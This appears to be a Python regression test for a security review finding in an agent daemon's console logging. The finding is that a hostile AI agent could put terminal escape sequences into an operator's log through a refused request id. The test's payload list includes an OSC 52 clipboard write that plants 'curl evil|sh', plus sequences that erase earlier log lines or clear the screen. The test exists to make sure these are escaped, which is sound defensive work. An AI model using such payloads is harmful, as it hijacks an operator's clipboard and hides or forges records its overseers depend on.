"""Review finding: the console log format (new: `--log-format auto` picks it
whenever the daemon's stdout is a terminal) writes agent-chosen strings to the
operator's terminal raw.

structlog's ConsoleRenderer (repr_native_str=False) prints a str value as it
is unless it holds a space, a tab, "=", a quote or a line break: an ESC, a BEL
or a C1 control passes through. An agent holding only its own hive.sock picks
the ``id`` of a request the socket refuses; the daemon logs ``socket.refused
request=<that id>``. So a hostile agent can write terminal control sequences
(OSC 52 clipboard writes, OSC 0 titles, CSI cursor moves that erase or forge
log lines) into the terminal of an operator running `hive serve` there.
Before the refactor the log was always JSON, which escapes every control
character (``\\u001b``).

No daemon: a real JsonLineServer on a real unix socket, the logging set up as
`hive serve --log-format console` does.
"""

from __future__ import annotations

import asyncio
import io
import json
import logging
from pathlib import Path
from typing import Any

import pytest

import hyperhive.logs as logs
from hyperhive.web.rpc.jsonlines import JsonLineServer, Op, bind_socket

ESC_PAYLOADS = [
    "\x1b]52;c;Y3VybCBldmlsfHNo\x07",  # OSC 52: put `curl evil|sh` on the clipboard (no "=": base64 of 12 bytes)
    "\x1b[1A\x1b[2K\x1b[1A\x1b[2K",  # erase the lines above (hide earlier refusals)
    "\x9b2J",  # C1 CSI (8-bit): clear the screen on terminals that honour it
]


async def _ping(_: Any) -> dict[str, Any]:
    return {"pong": True}


@pytest.fixture
def console_log() -> Any:
    """The root logger writing the console format into a buffer; restored after."""
    root = logging.getLogger()
    saved, level = list(root.handlers), root.level
    buf = io.StringIO()  # not a tty: no colours, so any ESC in the output came from the input
    logs.configure(stream=buf, fmt="console")
    yield buf
    for h in list(root.handlers):
        root.removeHandler(h)
    for h in saved:
        root.addHandler(h)
    root.setLevel(level)


@pytest.mark.parametrize("payload", ESC_PAYLOADS, ids=["osc52", "csi-erase", "c1-csi"])
async def test_an_agent_chosen_request_id_reaches_the_console_log_escaped(
        tmp_path: Path, console_log: io.StringIO, payload: str) -> None:
    path = tmp_path / "hive.sock"
    server = JsonLineServer({"ping": Op(_ping)}, {"agent": "worker"})
    server.add_socket(bind_socket(path))
    try:
        reader, writer = await asyncio.open_unix_connection(str(path))
        # An op this socket does not serve: refused, and logged with the caller's id.
        writer.write(json.dumps({"id": payload, "op": "no-such-op"}).encode() + b"\n")
        await writer.drain()
        reply = json.loads(await asyncio.wait_for(reader.readline(), 10))
        assert reply["ok"] is False and reply["error"]["code"] == "unknown_op"
        writer.close()
    finally:
        server.stop()
        await asyncio.sleep(0)
    out = console_log.getvalue()
    assert "socket.refused" in out, out
    controls = sorted({hex(ord(c)) for c in out if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) <= 0x9f})
    assert not controls, f"raw control characters from the agent in the operator's log: {controls}: {out!r}"
